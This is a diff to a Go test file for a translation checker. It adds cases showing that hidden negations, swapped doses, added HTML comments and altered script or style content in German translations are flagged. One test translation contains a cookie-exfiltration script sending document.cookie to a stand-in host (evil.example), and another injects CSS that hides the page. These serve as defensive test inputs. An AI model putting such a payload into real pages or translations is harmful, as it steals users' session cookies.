@@ -4,6 +4,7 @@ import (
 	"os"
 	"path/filepath"
 	"slices"
+	"strings"
 	"testing"
 
 	"github.com/lingo-l10n/lingo/internal/check"
@@ -144,5 +145,54 @@ func TestBidiControls(t *testing.T) {
 		Plural: map[string]string{"one": "{{.N}} \u202ETag\u202C"}})
 	if len(fs) != 1 || fs[0].Check != "control" {
 		t.Errorf("plural form with an override: %v", fs)
+	}
+}
+
+// TestWhatTheReaderSees: HTML comments and script or style content are
+// html errors when a translation adds or changes them, and the numbers,
+// units and negation checks read the text a reader sees, not what is
+// hidden in a comment, a tag or a script.
+func TestWhatTheReaderSees(t *testing.T) {
+	tests := []struct {
+		name, src, tr string
+		want          []string // "check: message" prefixes, in order; nil for none
+	}{
+		{"negation in a comment", "Do not take more than 3 g a day.", "Nehmen Sie <!-- nicht --> mehr als 3 g pro Tag ein.",
+			[]string{"html: HTML comment added: <!-- nicht -->", `negation: the source says "not"`}},
+		{"negation in a title", `Do not take <abbr title="maximum">more than 3 g</abbr> a day.`, `Nehmen Sie <abbr title="nicht">mehr als 3 g</abbr> pro Tag ein.`,
+			[]string{`negation: the source says "not"`}},
+		{"negation kept in a tag", `Do <b>not</b> take more than 3 g a day.`, `Nehmen Sie <b>nicht</b> mehr als 3 g pro Tag ein.`, nil},
+		{"negation across a line break", `Do not take<br>more than 3 g a day.`, `Nehmen Sie nicht<br>mehr als 3 g pro Tag ein.`, nil},
+		{"numbers swapped with a title", `Take 3 g <abbr title="at most 30 g">a day</abbr>.`, `Nehmen Sie 30 g <abbr title="höchstens 3 g">pro Tag</abbr>.`,
+			[]string{"numbers: number 3 in an HTML attribute", "numbers: number 3 of the source is missing", "numbers: number 30 is not in the source",
+				"numbers: number 30 of the source's HTML attributes", `units: "3 g a day" of the source`}},
+		{"a number in a comment", "Take 3 g a day.", "Nehmen Sie 30 g <!-- 3 g --> pro Tag.",
+			[]string{"html: HTML comment added", "numbers: number 3 of the source is missing", "numbers: number 30 is not in the source", `units: "3 g a day" of the source`}},
+		{"a number in a script", "Take it <script>var dose = 3;</script> with 30 mL of water.", "Nehmen Sie es <script>var dose = 3;</script> mit 30 mL Wasser.", nil},
+		{"script content changed", "Take it <script>var dose = 3;</script> with water.", `Nehmen Sie es <script>var dose = 3; new Image().src = "https://evil.example/?" + document.cookie;</script> mit Wasser.`,
+			[]string{`html: the content of <script> changed: "var dose = 3;" became`}},
+		{"style content changed", "Read <style>.dose { color: red }</style> this.", "Lesen Sie <style>body { display: none }</style> dies.",
+			[]string{`html: the content of <style> changed: ".dose { color: red }" became "body { display: none }"`}},
+	}
+	c := check.New(check.Options{Severity: map[string]string{"negation": "error"}})
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			fs := c.Check(check.Translation{Lang: "de", SourceLang: "en", File: "f.toml", Line: 7, ID: "a.p-1", Source: tt.src, Text: tt.tr})
+			check.Sort(fs)
+			var got []string
+			for _, f := range fs {
+				if f.Severity != check.Error || f.Line != 7 {
+					t.Errorf("%s at line %d, want an error at 7", f.Severity, f.Line)
+				}
+				got = append(got, f.Check+": "+f.Message)
+			}
+			ok := len(got) == len(tt.want)
+			for i := range tt.want {
+				ok = ok && strings.HasPrefix(got[i], tt.want[i])
+			}
+			if !ok {
+				t.Errorf("%q:\n got %q\nwant %q...", tt.tr, got, tt.want)
+			}
+		})
 	}
 }
